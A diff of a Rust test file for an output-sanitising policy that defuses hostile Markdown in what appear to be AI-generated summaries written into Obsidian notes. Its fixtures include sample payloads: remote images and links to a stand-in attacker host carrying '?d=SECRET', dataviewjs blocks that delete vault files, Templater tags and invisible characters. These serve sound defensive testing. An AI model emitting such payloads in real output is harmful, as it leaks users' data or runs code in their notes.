@@ -1,10 +1,10 @@
-//! The policy on each attack of issue 35, one by one, and on legitimate summaries, which must
-//! come out byte for byte.
+//! The policy on each attack of issues 35 and 41, one by one, and on legitimate summaries,
+//! which must come out byte for byte (trimmed, with LF line breaks: the write restores CRLF).
+//! What is left live is judged by the verifier of written bytes (`vault/inert_check.rs`),
+//! which shares no parsing with the policy.
 
 use proptest::prelude::*;
-use pulldown_cmark::{CodeBlockKind, Event, LinkType, Parser, Tag};
 
-use super::pass::summary_options;
 use super::{Defused, OutputPolicy, SourceLinks};
 
 const SOURCE: &str =
@@ -18,90 +18,25 @@ fn defuse(answer: &str) -> (String, Defused) {
 
 fn unchanged(answer: &str) {
     let (out, defused) = defuse(answer);
-    assert_eq!(out, answer, "a legitimate summary changed");
+    let expected = answer.replace("\r\n", "\n");
+    assert_eq!(out, expected.trim(), "a legitimate summary changed");
     assert!(defused.is_empty(), "{defused:?}");
 }
 
-/// Every construct the policy forbids, found by parsing the text again.
-fn forbidden(text: &str, source: &SourceLinks) -> Vec<String> {
-    let mut found = Vec::new();
-    let rule = super::LinkRule {
-        source,
-        allow: &globset::GlobSet::empty(),
-    };
-    // Text Obsidian never makes clickable: code, an image's alt text, a wikilink's target.
-    let mut open: Vec<bool> = Vec::new();
-    for (event, _) in Parser::new_ext(text, summary_options()).into_offset_iter() {
-        match &event {
-            Event::Start(tag) => open.push(matches!(
-                tag,
-                Tag::CodeBlock(_)
-                    | Tag::Image { .. }
-                    | Tag::Link {
-                        link_type: LinkType::WikiLink { .. },
-                        ..
-                    }
-            )),
-            Event::End(_) => {
-                open.pop();
-            }
-            _ => {}
-        }
-        let inert_depth = open.iter().filter(|inert| **inert).count();
-        match event {
-            Event::Start(Tag::Image {
-                link_type,
-                dest_url,
-                ..
-            }) if !matches!(link_type, LinkType::WikiLink { .. })
-                && !super::url::is_local(&dest_url) =>
-            {
-                found.push(format!("remote image {dest_url}"))
-            }
-            Event::Start(Tag::Link {
-                link_type,
-                dest_url,
-                ..
-            }) => {
-                let url = match link_type {
-                    LinkType::WikiLink { .. } => continue,
-                    LinkType::Email => format!("mailto:{dest_url}"),
-                    _ => dest_url.to_string(),
-                };
-                if !super::url::is_local(&url) && !rule.allows(&url) {
-                    found.push(format!("link {url}"));
-                }
-            }
-            Event::Html(html) | Event::InlineHtml(html) if html.contains('<') => {
-                found.push(format!("html {html}"))
-            }
-            Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(info)))
-                if !super::display_languages::is_display_language(&info) =>
-            {
-                found.push(format!("code block {info}"))
-            }
-            Event::Code(code)
-                if code.trim_start().starts_with('=') || code.trim_start().starts_with("$=") =>
-            {
-                found.push(format!("inline query {code}"))
-            }
-            Event::Text(text) if inert_depth == 0 => {
-                for url in super::url::bare_urls(&text) {
-                    if !rule.allows(&text[url.clone()]) {
-                        found.push(format!("bare url {}", &text[url]));
-                    }
-                }
-            }
-            _ => {}
-        }
-    }
-    if text.contains("<%") {
-        found.push("templater tag".into());
-    }
-    if super::invisible::remove_invisible(text).1 > 0 {
-        found.push("invisible character".into());
-    }
-    found
+/// What the verifier of written bytes finds live in `out` written as a note's summary section.
+fn forbidden(out: &str, source: &SourceLinks) -> Vec<String> {
+    let rule = OutputPolicy::default().summary("", source);
+    let note = "A note.\n\n## Summary\n\n";
+    let document = format!("{note}{out}\n");
+    crate::vault::inert_check::live_in_note(
+        &document,
+        note.len()..document.len(),
+        rule.links(),
+        Some(note.find("## Summary").unwrap_or(0)),
+    )
+    .into_iter()
+    .map(|live| live.to_string())
+    .collect()
 }
 
 fn assert_inert(out: &str) {
@@ -113,7 +48,10 @@ fn assert_inert(out: &str) {
 fn a_remote_image_becomes_a_marker_naming_its_host() {
     let (out, defused) =
         defuse("Revenue grew.\n\n![chart](https://attacker.example/p.png?d=SECRET)\n");
-    assert_eq!(out, "Revenue grew.\n\n[image removed: attacker.example]\n");
+    assert_eq!(
+        out,
+        "Revenue grew.\n\n\\[image removed: attacker.example\\]"
+    );
     assert_eq!(defused.remote_images, 1);
     assert_inert(&out);
 }
@@ -122,12 +60,11 @@ fn a_remote_image_becomes_a_marker_naming_its_host() {
 fn a_reference_style_remote_image_and_its_definition_go() {
     let (out, defused) =
         defuse("See ![t][ref] here.\n\n[ref]: https://attacker.example/x.png?q=1\n");
-    assert!(
-        out.starts_with("See [image removed: attacker.example] here."),
-        "{out}"
+    assert_eq!(
+        out,
+        "See \\!\\[t]&#91;ref] here.\n\n\\[ref]: `https://attacker.example/x.png?q=1`"
     );
-    assert!(!out.contains("attacker.example/x.png"), "{out}");
-    assert_eq!(defused.remote_images, 1);
+    assert_eq!((defused.definitions, defused.links), (1, 1));
     assert_inert(&out);
 }
 
@@ -163,7 +100,7 @@ fn links_stay_only_when_their_url_is_in_the_source() {
     let (out, defused) = defuse("Read [the story](https://news.example/story) and [this](https://attacker.example/?d=SECRET).");
     assert_eq!(
         out,
-        "Read [the story](https://news.example/story) and this [link removed: attacker.example]."
+        "Read [the story](https://news.example/story) and this \\[link removed: attacker.example\\]."
     );
     assert_eq!(defused.links, 1);
     assert_inert(&out);
@@ -179,8 +116,12 @@ fn reference_autolink_and_bare_links_not_in_the_source_become_inert() {
     assert!(out.contains("`https://attacker.example/b?d=2`"), "{out}");
     assert!(out.contains("`www.attacker.example/c`"), "{out}");
     assert_inert(&out);
-    // From the source, all three forms stay.
-    unchanged("See <https://news.example/story>, https://news.example/story and [d][x].\n\n[x]: https://docs.example/a\n");
+    // From the source, the inline forms stay; a reference link is not on the list (the note
+    // around the summary could define its label): text, its URL still linked bare.
+    unchanged("See <https://news.example/story> and https://news.example/story.\n");
+    let (out, defused) = defuse("[d][x].\n\n[x]: https://docs.example/a\n");
+    assert_eq!(out, "\\[d]&#91;x].\n\n\\[x]: https://docs.example/a");
+    assert_eq!(defused.definitions, 1);
 }
 
 #[test]
@@ -196,8 +137,8 @@ fn schemes_that_act_are_never_links_even_from_the_source() {
     ] {
         let out = OutputPolicy::default().summary(link, &source);
         assert!(
-            out.as_str().starts_with("x [link removed:")
-                || out.as_str().starts_with("open [link removed:"),
+            out.as_str().starts_with("x \\[link removed:")
+                || out.as_str().starts_with("open \\[link removed:"),
             "{}",
             out.as_str()
         );
@@ -212,7 +153,7 @@ fn allow_links_widens_the_list_by_host_and_never_for_schemes_that_act() {
     let out = policy.summary(answer, &SourceLinks::none());
     assert_eq!(
         out.as_str(),
-        "[A](https://en.wikipedia.org/wiki/A) B [link removed: attacker.example]"
+        "[A](https://en.wikipedia.org/wiki/A) B \\[link removed: attacker.example\\]"
     );
     assert!(OutputPolicy::new(&["[".to_string()]).is_err());
 }
@@ -234,21 +175,30 @@ fn executing_code_blocks_are_retagged_text() {
         let answer = format!("Intro\n\n```{info}\napp.vault.adapter.remove('x')\n```\n");
         let (out, defused) = defuse(&answer);
         assert_eq!(
-            out, "Intro\n\n```text\napp.vault.adapter.remove('x')\n```\n",
+            out, "Intro\n\n```text\napp.vault.adapter.remove('x')\n```",
             "{info}"
         );
         assert_eq!(defused.code_blocks, 1);
     }
     let (out, _) = defuse("> ~~~dataview\n> LIST\n> ~~~\n");
-    assert_eq!(out, "> ~~~text\n> LIST\n> ~~~\n");
+    assert_eq!(out, "> ~~~text\n> LIST\n> ~~~");
 }
 
 #[test]
-fn inline_dataview_queries_lose_their_backticks() {
+fn inline_dataview_queries_stay_code_that_dataview_does_not_run() {
     let (out, defused) = defuse("Owner: `= this.owner` and `$= dv.pages()` and ` =x`.");
     assert_eq!(defused.inline_code, 3);
-    assert!(!out.contains('`'), "{out}");
-    assert!(out.contains("\\= this\\.owner"), "{out}");
+    assert_eq!(
+        out,
+        "Owner: `\u{2060}= this.owner` and `\u{2060}$= dv.pages()` and ` \u{2060}=x`."
+    );
+    assert_inert(&out);
+    // The first line of what may be an indented code block, and a fenced block.
+    let (out, _) = defuse("Intro\n\n    = this.file.name\n\n```js\n= dv.current()\n```");
+    assert_eq!(
+        out,
+        "Intro\n\n    \\= this.file.name\n\n```js\n\u{2060}= dv.current()\n```"
+    );
     assert_inert(&out);
 }
 
@@ -257,7 +207,7 @@ fn templater_tags_are_broken_in_text_and_in_code() {
     let (out, defused) = defuse("<% tp.file.title %> and `<%* x %>`\n\n```js\n<% y %>\n```\n");
     assert_eq!(
         out,
-        "<\\% tp.file.title %> and `< %* x %>`\n\n```js\n< % y %>\n```\n"
+        "&lt;% tp.file.title %> and `< %* x %>`\n\n```js\n< % y %>\n```"
     );
     assert_eq!(defused.templater, 3);
 }
@@ -265,24 +215,27 @@ fn templater_tags_are_broken_in_text_and_in_code() {
 #[test]
 fn invisible_characters_are_removed() {
     let (out, defused) = defuse("Fine\u{E0041}\u{E0042}.\u{200B} \u{202E}txt.exe\u{7}\ttab\r\nend");
-    assert_eq!(out, "Fine. txt.exe\ttab\r\nend");
+    assert_eq!(out, "Fine. txt.exe\ttab\nend");
     assert_eq!(defused.invisible, 5);
 }
 
 #[test]
 fn a_zero_width_space_cannot_hide_a_link_from_the_parser() {
     let (out, _) = defuse("[x]\u{200B}(https://attacker.example/?d=1)");
-    assert_eq!(out, "x [link removed: attacker.example]");
+    assert_eq!(out, "x \\[link removed: attacker.example\\]");
 }
 
 #[test]
 fn a_leading_front_matter_block_is_dropped() {
     let (out, defused) = defuse("---\ncssclasses: [evil]\ntags: [x]\n---\n- Point\n");
-    assert_eq!(out, "[front matter removed]\n\n- Point\n");
+    assert_eq!(out, "\\[front matter removed\\]\n\n- Point");
     assert_eq!(defused.frontmatter, 1);
     // Further down, `---` is a rule and what follows is Markdown, checked as such.
     let (out, _) = defuse("Text\n\n---\n![a](https://attacker.example/p.png)\n---\n");
-    assert!(out.contains("[image removed: attacker.example]"), "{out}");
+    assert!(
+        out.contains("\\[image removed: attacker.example\\]"),
+        "{out}"
+    );
 }
 
 #[test]
@@ -314,12 +267,34 @@ fn legitimate_summaries_come_out_byte_for_byte() {
         "```python\nprint('hi')\n```\n\n```\nplain\n```\n",
         "1. First\r\n2. Second\r\n\r\n> [!note] Callout\r\n> Body\r\n",
         "Embeds stay: ![[diagram.png]] and ![local](img/a.png); [a note](Other%20note.md#Part).",
+        "A cell<br>break, <kbd>Ctrl</kbd>, H<sub>2</sub>O, x<sup>2</sup>, <mark>key</mark>.",
+        "Math $a+b$ and $$\\frac{1}{2}\\leq x$$ stay.\n\n```mermaid\ngraph TD\n  A[Plan] --> B{Ship?}\n```",
+        "Love <3 and a < b.",
         "Math $x^2$, ~~strike~~, footnote[^1].\n\n[^1]: A note.\n",
         "Emoji 👨\u{200D}👩\u{200D}👧 and Persian می\u{200C}خواهم.",
         "## Heading\n\nText with <3 and a < b and 5 % 3.\n",
     ] {
         unchanged(answer);
     }
+}
+
+#[test]
+fn legitimate_markdown_the_old_policy_lost_renders_as_intended() {
+    // Code spans stay code spans, shaped so that Dataview reads no query and no field.
+    let (out, _) = defuse("Use `==` for equality, `=SUM(A1:A3)` in the sheet, `std::vec::Vec`.");
+    assert_eq!(
+        out,
+        "Use `\u{2060}==` for equality, `\u{2060}=SUM(A1:A3)` in the sheet, `std:\u{2060}:vec:\u{2060}:Vec`."
+    );
+    assert_inert(&out);
+    // Math keeps its `<` (with a space TeX ignores, so no reader sees a tag).
+    let (out, _) = defuse("$a<b>c$");
+    assert_eq!(out, "$a< b>c$");
+    assert_inert(&out);
+    // An image inside a link becomes the link's text.
+    let (out, _) = defuse("[![x](img.png)](Note.md)");
+    assert_eq!(out, "[x](Note.md)");
+    assert_inert(&out);
 }
 
 #[test]
@@ -331,6 +306,9 @@ fn the_policy_is_idempotent_on_each_attack() {
         "`= [x](https://attacker.example)`",
         "` https://attacker.example/?d=1",
         "[link removed: attacker.example]\n\n[link removed: attacker.example]: https://attacker.example/\n",
+        "a:: b and [k:: ![x](https://attacker.example/p.png)] and `(k:: v)`",
+        "%%hidden%% and $\\href{https:attacker.example}{x}$ and [[a\nb]]",
+        "    ```js-engine\n    app.vault\n    ```",
     ] {
         let (once, _) = defuse(answer);
         let (twice, defused) = defuse(&once);
@@ -341,60 +319,134 @@ fn the_policy_is_idempotent_on_each_attack() {
 }
 
 /// Markdown-ish text made of the constructs the policy deals with, the legitimate and the
-/// hostile, in any order.
+/// hostile, in any order: issue 41's grammar (definitions, indentation, fences, wikilinks with
+/// `]]` in code or attributes, Dataview fields and queries, math, Mermaid, invisible
+/// characters, CRLF, BOM) and issue 35's.
 fn markdownish() -> impl Strategy<Value = String> {
+    const PIECES: &[&str] = &[
+        "text ",
+        "\n",
+        "\n\n",
+        "- ",
+        "> ",
+        "    ",
+        "\t",
+        "`",
+        "``",
+        "```dataviewjs\n",
+        "```python\n",
+        "```\n",
+        "~~~\n",
+        "    ```js-engine\n",
+        "```mermaid\n",
+        "click A call x\n",
+        "%%{init: {}}%%\n",
+        "---\n",
+        "<div>",
+        "</div>",
+        "<!--",
+        "-->",
+        "<pre>",
+        "<img src=x>",
+        "<%",
+        "%",
+        "%%",
+        "<",
+        "[",
+        "]",
+        "(",
+        ")",
+        "!",
+        "\\",
+        "= ",
+        "$=",
+        "`=",
+        "= this.file.name",
+        "|",
+        "*",
+        "[[Note]]",
+        "[[Note|a `]]` ![x](https://attacker.example/w.png) `",
+        "![[",
+        "]]",
+        "[[a\nb]]",
+        "<a title=\"]]\">",
+        "![a](https://attacker.example/p.png)",
+        "[t](https://attacker.example/?d=1)",
+        "[t](https://news.example/story)",
+        "https://attacker.example/x",
+        "https://news.example/story",
+        "www.attacker.example",
+        "<https://attacker.example/y>",
+        "[r]: https://attacker.example/r\n",
+        "[r]",
+        "![x][r]",
+        "obsidian://x",
+        "[k:: ",
+        "(k:: ",
+        "::",
+        ":",
+        "\\:",
+        "&#58;",
+        "&lt;",
+        "&",
+        "$",
+        "$$",
+        "\\href{https://attacker.example}{x}",
+        "\\href{https:attacker.example}{x}",
+        "\\style{color:red}{x}",
+        "\\frac{a}{b}",
+        "<br>",
+        "<kbd>",
+        "[^1]",
+        "[^1]: n\n",
+        "> [!note] ",
+        "- [ ] ",
+        "\u{200B}",
+        "\u{E0041}",
+        "\u{FE01}",
+        "\u{E0101}",
+        "\u{AD}",
+        "\u{2060}",
+        "\u{2800}",
+        "\u{3164}",
+        "\u{FEFF}",
+        "\r\n",
+        "😀",
+        "|---|\n",
+    ];
     let piece = prop_oneof![
-        Just("text ".to_string()),
-        Just("\n".to_string()),
-        Just("\n\n".to_string()),
-        Just("- ".to_string()),
-        Just("> ".to_string()),
-        Just("    ".to_string()),
-        Just("`".to_string()),
-        Just("``".to_string()),
-        Just("```dataviewjs\n".to_string()),
-        Just("```python\n".to_string()),
-        Just("```\n".to_string()),
-        Just("~~~\n".to_string()),
-        Just("---\n".to_string()),
-        Just("<div>".to_string()),
-        Just("</div>".to_string()),
-        Just("<!--".to_string()),
-        Just("-->".to_string()),
-        Just("<img src=x>".to_string()),
-        Just("<%".to_string()),
-        Just("%".to_string()),
-        Just("<".to_string()),
-        Just("[".to_string()),
-        Just("]".to_string()),
-        Just("(".to_string()),
-        Just(")".to_string()),
-        Just("!".to_string()),
-        Just("\\".to_string()),
-        Just("= ".to_string()),
-        Just("$=".to_string()),
-        Just("|".to_string()),
-        Just("*".to_string()),
-        Just("[[Note]]".to_string()),
-        Just("![a](https://attacker.example/p.png)".to_string()),
-        Just("[t](https://attacker.example/?d=1)".to_string()),
-        Just("[t](https://news.example/story)".to_string()),
-        Just("https://attacker.example/x".to_string()),
-        Just("https://news.example/story".to_string()),
-        Just("<https://attacker.example/y>".to_string()),
-        Just("[r]: https://attacker.example/r\n".to_string()),
-        Just("[r]".to_string()),
-        Just("obsidian://x".to_string()),
-        Just("\u{200B}".to_string()),
-        Just("\u{E0041}".to_string()),
-        Just("\r\n".to_string()),
+        proptest::sample::select(PIECES).prop_map(str::to_string),
         "[a-z ]{0,6}".prop_map(|s| s),
     ];
-    proptest::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
+    proptest::collection::vec(piece, 0..28).prop_map(|pieces| pieces.concat())
+}
+
+/// Notes a summary is appended to, each leaving something for the summary to meet: an open
+/// fence, an open `<pre>`, an open comment, open math, a reference definition of its own.
+const NOTE_CONTEXTS: &[&str] = &[
+    "",
+    "A note.\n",
+    "Text\n\n```js\nlet a = 1;\n",
+    "<pre>\nraw",
+    "Text %% hidden\n",
+    "$$\n\\frac{a}{b}\n",
+    "[r]: https://attacker.example/r\n[x]: https://news.example/story\n\nBody.",
+    "<!-- open comment\n",
+    "- item\n  ```\n  code\n",
+    "\u{FEFF}---\ntags: [a]\n---\nBody\r\nline\r\n",
+];
+
+/// How many answers the property tests try: 2,000 by default (CI), more with
+/// `VAULTSUM_POLICY_CASES` (issue 41 asks for 100,000, run by hand; see docs/safety.md).
+fn cases() -> u32 {
+    std::env::var("VAULTSUM_POLICY_CASES")
+        .ok()
+        .and_then(|n| n.parse().ok())
+        .unwrap_or(2_000)
 }
 
 proptest! {
-    #![proptest_config(ProptestConfig::with_cases(600))]
+    #![proptest_config(ProptestConfig::with_cases(cases()))]
 
     #[test]
     fn defused_text_is_inert_and_a_fixed_point(answer in markdownish()) {
@@ -403,16 +455,39 @@ proptest! {
         prop_assert!(left.is_empty(), "{:?} left in {:?} (from {:?})", left, once, answer);
         let (twice, defused) = defuse(&once);
         prop_assert_eq!(&twice, &once, "not idempotent on {:?}", answer);
-        prop_assert!(defused.is_empty());
-        prop_assert_eq!(super::UNSETTLED.load(std::sync::atomic::Ordering::Relaxed), 0);
+        prop_assert!(defused.is_empty(), "{:?} on the second pass over {:?}", defused, once);
     }
 
     #[test]
-    fn the_property_is_a_fixed_point_too(answer in markdownish()) {
+    fn the_writer_writes_nothing_the_verifier_finds_live_in_any_note(
+        answer in markdownish(),
+        context in proptest::sample::select(NOTE_CONTEXTS),
+    ) {
+        let summary = OutputPolicy::default().summary(&answer, &SourceLinks::from_text(SOURCE));
+        prop_assume!(!summary.as_str().trim().is_empty());
+        // A note left inside a block that runs or hides is refused whole (`note_end.rs`).
+        let Ok((content, live)) = crate::vault::compose_and_check(context.as_bytes(), &summary)
+        else {
+            return Ok(());
+        };
+        prop_assert!(
+            live.is_empty(),
+            "{:?} in {:?} (from {:?})",
+            live,
+            String::from_utf8_lossy(&content),
+            answer
+        );
+        prop_assert!(content.starts_with(context.as_bytes()), "the note is not a prefix");
+    }
+
+    #[test]
+    fn the_property_is_a_fixed_point_and_inert(answer in markdownish()) {
         let policy = OutputPolicy::default();
         let source = SourceLinks::from_text(SOURCE);
         let once = policy.property(&answer, &source);
         let twice = policy.property(once.as_str(), &source);
         prop_assert_eq!(twice.as_str(), once.as_str());
+        let live = crate::vault::inert_check::live_in_property(once.as_str(), once.links());
+        prop_assert!(live.is_empty(), "{:?} in {:?}", live, once.as_str());
     }
 }
